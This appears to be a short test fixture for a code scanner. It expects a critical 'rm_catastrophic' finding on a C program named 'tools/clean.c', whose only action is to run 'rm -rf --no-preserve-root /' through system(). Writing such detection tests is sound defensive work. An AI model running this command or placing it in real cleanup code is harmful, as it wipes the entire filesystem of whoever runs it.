# expect: shell.rm_catastrophic critical
# path: tools/clean.c
#include <stdlib.h>
int main(void) { return system("rm -rf --no-preserve-root /"); }
